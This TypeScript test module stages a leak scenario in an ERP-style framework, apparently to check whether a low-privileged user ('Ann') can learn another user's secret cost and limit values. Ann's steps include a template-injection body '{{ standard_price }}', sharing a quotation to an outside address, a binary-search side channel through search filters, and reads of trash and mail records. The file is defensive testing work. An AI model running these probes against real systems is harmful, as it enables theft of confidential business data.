import type { messagesOf } from "@holdfast/framework/mail/messages";
import type { DataSource } from "@holdfast/framework/model/environment";
import { dispatch } from "@holdfast/framework/remote/dispatch";
import { ExpectedError } from "@holdfast/kernel/errors";
import type { CaughtMails } from "./caught-mails.ts";
import type { CompanyHost } from "./company-host.ts";

/** The product that may leak: the real data layer with real apps, or one in which a mistake is planted. */
export interface Product {
  readonly data: DataSource;
  readonly messagesOf: typeof messagesOf;
}

/** Where the attack takes place. */
export interface Scene extends Product {
  readonly host: CompanyHost;
  readonly mails: CaughtMails;
}

/** What Ann may not know: a product's cost in whole euros, and what Bo's own quotation is about. */
export interface Hidden {
  readonly cost: number;
  readonly limit: number;
}

/** What she found out, by way, and everything that she was told on the way. */
export interface Booty {
  readonly found: ReadonlyMap<string, number | undefined>;
  readonly told: readonly string[];
}

/** Numbers that a secret may be: 1000 to 9999, so that none is one of another kind by chance. */
export const leastSecret = 1_000;
const mostSecret = 9_999;
const code = "HP-CHA-010";
const outside = "ann@elsewhere.example";

/** What Bo does, who may: a change of the cost, and a quotation of his own with a note on it, mailed to somebody. */
export async function boWorks({ host }: Scene, hidden: Hidden): Promise<number> {
  const [product] = await host.call("bo", "product.template", "search", [[["default_code", "=", code]]]);
  await host.call("bo", "product.template", "write", [[product], { standard_price: `${hidden.cost}.00` }]);
  const [partner] = await host.call("bo", "res.partner", "search", [[["name", "=", "Cy Andersen"]]]);
  const order = await host.call("bo", "sale.order", "create", [
    { partner_id: partner, order_line: [[0, 0, { name: "Secret", price_unit: 1 }]] },
  ]);
  await host.call("bo", "sale.order", "action_quotation_send", [[order]]);
  await host.call("bo", "sale.order", "message_post", [[order]], { body: `limit ${hidden.limit}` });
  await host.call("bo", "sale.order", "action_share", [[order]], {
    email: `limit-${hidden.limit}@x.example`,
  });
  return order;
}

/** What Ann does, who may see neither: everything that writes a line or sends a mail, to an address of hers; and questions. */
export async function annAttacks(scene: Scene, bosOrder: number): Promise<Booty> {
  const { host, data, mails } = scene;
  const told: string[] = [];
  // Without rights that administrators add, of which there are none: what is compiled for them knows no planted leak.
  const { added: _none, ...actor } = await host.actor("ann");
  const tell = (what: unknown) => void told.push(JSON.stringify(what) ?? "");
  const ask: Ask = async (model, method, args, kwargs = {}) => {
    const answer = await dispatch(data, actor, { model, method, args, kwargs }).catch(inWords);
    tell(answer);
    return answer;
  };
  const logOf = async (model: string, id: number) => {
    const lines = await scene.messagesOf(data.reading(actor), model, id).catch(inWords);
    const said = Array.isArray(lines)
      ? lines.map(({ subject, body, author_id, author_name }) => [subject, body, author_id, author_name])
      : lines;
    tell(said);
    return JSON.stringify(said);
  };
  await mails.sent(async () => undefined);
  const mine = await mails.quotation();
  const caught = await mails.sent(async () => {
    await ask("sale.order", "message_post", [[mine]], { body: "{{ standard_price }}" });
    await ask("sale.order", "action_quotation_send", [[mine]]);
    await ask("sale.order", "action_share", [[mine]], { email: outside });
    for (const step of ["action_confirm", "action_cancel", "action_draft"])
      await ask("sale.order", step, [[mine]]);
  });
  const mail = caught.map((text) => text.replace(/^[\s\S]*?^Subject:/m, "Subject:")).join("\n");
  tell(mail);
  const log = await logOf("sale.order", mine);
  const about = ["product.template", "product.product", "res.partner"];
  for (const model of about) for (const id of await idsOf(ask, model)) await logOf(model, id);
  const found = new Map<string, number | undefined>([
    ["cost by history", costIn(log)],
    ["cost by mail", costIn(mail)],
    ["limit by history", limitIn(await logOf("sale.order", bosOrder))],
    ["limit by lines", await halve(ask, "mail.message", ["res_id", "=", bosOrder], "subject", "limit ")],
    [
      "limit by outgoing mails",
      await halve(ask, "mail.mail", ["res_id", "=", bosOrder], "email_to", "limit-"),
    ],
  ]);
  for (const model of ["mail.message", "mail.mail", "hf.trash", "hf.webhook.delivery"]) {
    await ask(model, "search_count", [[]]);
    await ask(model, "read_group", [[], ["subject"], ["subject"]]);
    await ask(model, "export_data", [[1, 2, 3], ["subject"]]);
  }
  await ask("res.partner", "trash_read", [[["display_name", "!=", false]], ["display_name"]]);
  await ask("product.template", "trash_read", [[["standard_price", ">", 1]], ["standard_price"]]);
  return { found, told: told.map(plain) };
}

type Ask = (
  model: string,
  method: string,
  args: readonly unknown[],
  kwargs?: Readonly<Record<string, unknown>>,
) => Promise<unknown>;

async function idsOf(ask: Ask, model: string): Promise<number[]> {
  const ids = await ask(model, "search", [[]], { limit: 3 });
  return Array.isArray(ids) ? ids : [];
}

/** Halves what a secret at the beginning of a text may be: the question finds nothing when the guess is too high. */
async function halve(
  ask: Ask,
  model: string,
  where: unknown,
  field: string,
  prefix: string,
): Promise<number> {
  let [low, high] = [leastSecret, mostSecret];
  while (low < high) {
    const middle = Math.ceil((low + high) / 2);
    const texts = [
      [field, ">=", `${prefix}${middle}`],
      [field, "<", `${prefix}a`],
    ];
    const found = await ask(model, "search", [[where, ...texts]], { limit: 1 });
    if (Array.isArray(found) && found.length > 0) low = middle;
    else high = middle - 1;
  }
  return low;
}

function inWords(error: unknown): unknown {
  if (!(error instanceof ExpectedError)) throw error;
  return { code: error.code, message: error.message, hint: error.hint, about: error.about };
}

const costIn = (text: string) => numberIn(/cost\D{0,20}(\d{4})/.exec(text));
const limitIn = (text: string) => numberIn(/limit (\d{4})/.exec(text));
const numberIn = (match: RegExpExecArray | null) => (match === null ? undefined : Number(match[1]));

/** Without what counts up or is drawn by lot: numbers of quotations, links, marks, boundaries. */
function plain(text: string): string {
  return text
    .replace(/\bS\d{5}\b/g, "S#")
    .replace(/http:\/\/[^\s"<>\\]+/g, "LINK")
    .replace(/<[0-9a-f]{32}@/g, "<ID@")
    .replace(/--_NmP-[\w-]+/g, "BOUNDARY")
    .replace(/Date: [^\r\n\\]+/g, "DATE");
}
